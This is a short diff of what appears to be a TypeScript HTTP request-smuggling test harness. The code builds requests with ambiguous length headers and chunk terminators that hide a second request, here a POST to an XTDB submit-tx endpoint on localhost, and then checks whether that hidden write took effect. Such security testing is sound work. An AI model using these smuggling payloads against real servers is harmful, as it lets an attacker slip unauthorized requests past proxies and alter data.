@@ -108,7 +108,8 @@ function requests({ to, path, head }: Target, hidden: string): readonly string[]
     ...AMBIGUOUS.flatMap((lines) =>
       ['', '0\r\n\r\n'].map((before) => {
         const body = `${before}${hidden}`;
-        return `${[...begin, ...lines.map((line) => line.replaceAll('LENGTH', String(body.length)))].join('\r\n')}\r\n\r\n${body}`;
+        const all = [...begin, ...lines.map((line) => line.replaceAll('LENGTH', String(body.length)))];
+        return `${all.join('\r\n')}\r\n\r\n${body}`;
       }),
     ),
     ...[...CHUNKS, ...('port' in to ? LENIENT : [])].map(
@@ -146,7 +147,10 @@ attack(
         head: ['Host: localhost', 'Content-Type: application/edn'],
         hidden: (name) => {
           const body = `{:tx-ops [[:xtdb.api/put {:xt/id "${name}"}]]}`;
-          return `POST /_xtdb/submit-tx HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/edn\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
+          return (
+            'POST /_xtdb/submit-tx HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/edn\r\n' +
+            `Content-Length: ${body.length}\r\n\r\n${body}`
+          );
         },
         happened: async (name) => {
           await wire.get('/sync', { params: { timeout: 20_000 } });
